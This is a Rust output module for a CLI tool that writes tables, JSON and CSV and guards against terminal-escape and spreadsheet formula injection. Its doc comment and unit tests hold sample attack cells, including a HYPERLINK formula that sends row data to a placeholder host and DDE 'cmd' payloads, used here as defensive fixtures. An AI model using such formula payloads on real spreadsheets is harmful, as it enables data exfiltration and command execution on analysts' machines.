//! Writing data in the formats scripts and people expect: aligned tables, JSON, NDJSON, CSV.

use std::io::Write;

use anyhow::Result;
use serde::Serialize;

use crate::args::Format;

/// Rows of text for `table` and `csv` output.
#[derive(Debug, Default)]
pub struct Table {
    headers: Vec<&'static str>,
    rows: Vec<Vec<String>>,
    /// Widest a column may be in table output (characters); longer cells are cut with `…`.
    max_width: usize,
}

impl Table {
    /// An empty table with these column headers.
    pub fn new(headers: Vec<&'static str>) -> Self {
        Self {
            headers,
            rows: Vec::new(),
            max_width: 60,
        }
    }

    /// Appends a row (as many cells as headers).
    pub fn row(&mut self, cells: Vec<String>) {
        self.rows.push(cells);
    }

    /// Aligned columns; control characters in cells are shown as spaces so a hostile listing
    /// cannot move the cursor or fake lines.
    pub fn write_table(&self, out: &mut dyn Write) -> Result<()> {
        let cells: Vec<Vec<String>> = self
            .rows
            .iter()
            .map(|row| row.iter().map(|c| self.fit(c)).collect())
            .collect();
        let mut widths: Vec<usize> = self.headers.iter().map(|h| h.chars().count()).collect();
        for row in &cells {
            for (i, cell) in row.iter().enumerate() {
                if let Some(w) = widths.get_mut(i) {
                    *w = (*w).max(cell.chars().count());
                }
            }
        }
        let line = |cells: &[String], out: &mut dyn Write| -> Result<()> {
            let mut text = String::new();
            for (i, cell) in cells.iter().enumerate() {
                let width = widths.get(i).copied().unwrap_or(0);
                if i + 1 == cells.len() {
                    text.push_str(cell);
                } else {
                    text.push_str(cell);
                    text.extend(std::iter::repeat_n(' ', width - cell.chars().count() + 2));
                }
            }
            writeln!(out, "{}", text.trim_end())?;
            Ok(())
        };
        let headers: Vec<String> = self.headers.iter().map(|h| h.to_uppercase()).collect();
        line(&headers, out)?;
        for row in &cells {
            line(row, out)?;
        }
        Ok(())
    }

    /// CSV with a header row; cells a spreadsheet would run as a formula are defused
    /// ([`spreadsheet_safe`]).
    pub fn write_csv(&self, out: &mut dyn Write) -> Result<()> {
        let mut writer = csv::Writer::from_writer(out);
        writer.write_record(&self.headers)?;
        for row in &self.rows {
            let cells: Vec<_> = row.iter().map(|cell| spreadsheet_safe(cell)).collect();
            writer.write_record(cells.iter().map(|cell| cell.as_bytes()))?;
        }
        writer.flush()?;
        Ok(())
    }

    fn fit(&self, cell: &str) -> String {
        let clean: String = cell
            .chars()
            .map(|c| if c.is_control() { ' ' } else { c })
            .collect();
        if clean.chars().count() <= self.max_width {
            clean
        } else {
            let mut cut: String = clean.chars().take(self.max_width - 1).collect();
            cut.push('…');
            cut
        }
    }
}

/// A cell as a spreadsheet should read it: text. Titles, sellers and descriptions come from the
/// people being investigated, and analysts open CSV output in a spreadsheet, which runs a cell
/// beginning with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
/// `=HYPERLINK("http://…?"&A2, "photos")` would send the row to whoever wrote it. Such a cell is
/// prefixed with `'`, which spreadsheets read as "text follows" and do not show. A cell that is
/// only a signed number (`-5`, `+389 70 123 456`) is left as it is: it computes nothing, and
/// phones in E.164 keep their `+` for scripts. JSON and NDJSON are never changed.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let starts_formula = match cell.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !cell[1..]
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ',' | '(' | ')' | '-')),
        _ => false,
    };
    if starts_formula {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Writes `items` as JSON (one array), NDJSON, or through `table` for table/CSV.
pub fn write<T: Serialize>(
    format: Format,
    items: &[T],
    table: impl FnOnce() -> Table,
    out: &mut dyn Write,
) -> Result<()> {
    match format {
        Format::Json => {
            serde_json::to_writer_pretty(&mut *out, items)?;
            writeln!(out)?;
        }
        Format::Ndjson => {
            for item in items {
                serde_json::to_writer(&mut *out, item)?;
                writeln!(out)?;
            }
        }
        Format::Table => table().write_table(out)?,
        Format::Csv => table().write_csv(out)?,
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_aligns_and_neutralises_control_characters() {
        let mut t = Table::new(vec!["id", "title"]);
        t.row(vec!["a:1".into(), "Глок\x1b[2J 19".into()]);
        t.row(vec!["classifieds:22".into(), "x".into()]);
        let mut out = Vec::new();
        t.write_table(&mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "ID              TITLE\na:1             Глок [2J 19\nclassifieds:22  x\n"
        );
    }

    #[test]
    fn csv_defuses_formulas_and_keeps_numbers() {
        let mut t = Table::new(vec!["a"]);
        for cell in [
            "=HYPERLINK(\"http://x.test/?\"&A2,\"photos\")",
            "@SUM(A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "+389 70 123 456",
            "-5",
            "Glock = 350 €",
        ] {
            t.row(vec![cell.into()]);
        }
        let mut out = Vec::new();
        t.write_csv(&mut out).unwrap();
        let rows: Vec<String> = csv::Reader::from_reader(out.as_slice())
            .records()
            .map(|r| r.unwrap()[0].to_string())
            .collect();
        assert_eq!(
            rows,
            [
                "'=HYPERLINK(\"http://x.test/?\"&A2,\"photos\")",
                "'@SUM(A1)",
                "'+cmd|' /C calc'!A0",
                "'-2+3+cmd|' /C calc'!A0",
                "'\t=1+1",
                "+389 70 123 456",
                "-5",
                "Glock = 350 €",
            ]
        );
    }

    proptest::proptest! {
        /// A defused cell is the cell behind one `'`; any other is left as it is; and no output
        /// cell starts a formula.
        #[test]
        fn spreadsheet_safe_only_prefixes(cell in "[=+@\t\r-]?[-+=@a-z0-9 ,.()|'\"!]{0,12}") {
            let safe = spreadsheet_safe(&cell);
            let prefixed = format!("'{cell}");
            proptest::prop_assert!(safe == cell || *safe == prefixed);
            let first = safe.chars().next();
            proptest::prop_assert!(!matches!(first, Some('=' | '@' | '\t' | '\r')));
        }
    }

    #[test]
    fn csv_quotes_commas() {
        let mut t = Table::new(vec!["a", "b"]);
        t.row(vec!["1,2".into(), "x".into()]);
        let mut out = Vec::new();
        t.write_csv(&mut out).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "a,b\n\"1,2\",x\n");
    }
}
